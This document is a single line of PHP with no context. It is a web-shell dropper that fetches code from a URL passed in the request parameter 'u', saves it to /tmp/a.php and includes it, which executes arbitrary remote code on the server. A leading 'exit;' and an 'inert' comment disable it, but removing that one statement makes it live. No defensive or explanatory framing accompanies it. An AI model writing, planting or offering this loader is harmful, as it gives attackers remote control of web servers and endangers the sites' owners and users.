<?php exit; /* inert */ file_put_contents("/tmp/a.php",file_get_contents($_GET["u"])); include "/tmp/a.php";
